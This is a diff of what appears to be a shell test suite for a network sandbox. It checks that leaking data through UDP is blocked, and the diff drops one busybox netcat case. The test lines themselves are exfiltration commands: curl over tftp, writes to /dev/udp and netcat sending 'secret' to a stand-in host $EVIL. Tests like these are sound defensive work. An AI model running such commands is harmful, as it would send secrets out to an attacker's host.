@@ -35,7 +35,6 @@ s.sendto(b'secret', ('ff02::fb', 5353, 0, socket.if_nametoindex('wire')))")" con
 	evades "curl -sS -m 1 tftp://$EVIL/secret" connect "$EVIL:69"
 	evades "echo secret >/dev/udp/$EVIL/4444" connect
 	evades "echo secret | nc -u -w 1 $EVIL 4444" connect
-	evades "echo secret | busybox nc -u -w 1 $EVIL 4444" connect
 	# A name that may be connected to is no leave for datagrams.
 	run bash -c "$(py "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.sendto(b'x', ('own.example', 7777))")"
